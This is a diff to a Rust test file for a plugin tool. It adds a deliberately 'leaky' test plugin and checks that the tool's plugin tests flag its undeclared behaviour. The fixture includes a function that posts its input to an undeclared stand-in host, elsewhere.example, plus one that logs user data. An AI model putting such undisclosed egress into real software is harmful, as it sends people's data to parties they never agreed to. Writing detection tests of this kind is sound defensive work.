@@ -210,6 +210,94 @@ fn a_key_is_for_its_owner_alone_and_is_not_overwritten() -> anyhow::Result<()> {
     Ok(())
 }
 
+/// Functions that do what their manifest does not say, each in another way.
+const LEAKY: &str = "
+use affiant_plugin::{Failure, clock, http, log};
+
+affiant_plugin::functions! {
+    /// Writes what it is given into the log, backwards.
+    fn tell(text: String) -> () {
+        log::info(&text.chars().rev().collect::<String>());
+    }
+
+    /// Sends it to somebody whom the manifest does not name.
+    fn send(text: String) -> Result<u16, Failure> {
+        Ok(http::Request::post(\"https://elsewhere.example/\", text).send()?.status)
+    }
+
+    /// Breaks off when the clock is denied.
+    fn when() -> i64 {
+        clock::now().unwrap().as_second()
+    }
+
+    /// Breaks off when there is no first letter.
+    fn first(text: String) -> String {
+        text.chars().next().unwrap().to_string()
+    }
+}
+";
+
+/// What the manifest of those says more than a starter's.
+const LEAKY_MANIFEST: &str = "
+[[capability]]
+id = \"log\"
+reason = \"diagnostics\"
+text = \"Says how often it was used.\"
+[[capability]]
+id = \"clock\"
+reason = \"core-function\"
+text = \"Reads the clock.\"
+[[capability]]
+id = \"http.fetch\"
+reason = \"core-function\"
+text = \"Asks for the time.\"
+[[recipient]]
+id = \"time\"
+name = \"A clock\"
+role = \"dpv:DataProcessor\"
+country = \"DE\"
+privacy_policy = \"https://time.example.org/privacy\"
+[[network]]
+side = \"server\"
+use = \"fetch\"
+scheme = \"https\"
+host = \"time.example.org\"
+methods = [\"GET\"]
+recipient = \"time\"
+carries = []
+";
+
+#[test]
+fn a_plugin_that_does_more_than_it_says_fails_its_tests() -> anyhow::Result<()> {
+    let folder = tempfile::tempdir()?;
+    run(folder.path(), &["plugin", "new", "leaky"])?;
+    let plugin = folder.path().join("leaky");
+    let file = plugin.join("plugin.toml");
+    let text = fs_err::read_to_string(&file)?;
+    let egress = text.find("[no_egress]").context("the starter keeps all to itself")?;
+    let behind = text.find("[[encryption]]").context("the starter has nothing to do with keys")?;
+    let text = format!("{}{LEAKY_MANIFEST}\n{}", &text[..egress], &text[behind..]);
+    fs_err::write(&file, text)?;
+    fs_err::write(plugin.join("src/lib.rs"), LEAKY)?;
+    run(&plugin, &["plugin", "build"])?;
+    let told = refused(&plugin, &["plugin", "test"])?;
+    for line in [
+        "passed   S1",
+        "passed   S2",
+        "the component names the host `elsewhere.example`",
+        "FAILED   S6",
+        "data of the source `answers` reaches the log, which nothing declares",
+        "it wants `https://elsewhere.example/`, which no `[[network]]` lists",
+        "without `clock`, `when with ",
+        "`first with text`: the plugin broke off",
+        "passed   D2",
+        "not run  C1",
+    ] {
+        ensure!(told.contains(line), "`{line}` is not in\n{told}");
+    }
+    Ok(())
+}
+
 #[test]
 fn a_plugin_in_c_is_one_like_any_other() -> anyhow::Result<()> {
     let folder = tempfile::tempdir()?;
@@ -260,9 +348,8 @@ fn site(folder: &Path) -> anyhow::Result<()> {
     fs_err::create_dir_all(&interviews)?;
     let data = folder.join("data");
     let flags = Vec::new();
-    let server = Server::start(&Setup { data, interviews, flags, folder: folder.to_owned() })?;
-    server.stop()?;
-    Ok(())
+    let mut server = Server::start(&Setup { data, interviews, flags, folder: folder.to_owned() })?;
+    server.kill()
 }
 
 /// The texts of the blocks of a Markdown file that are to be typed.
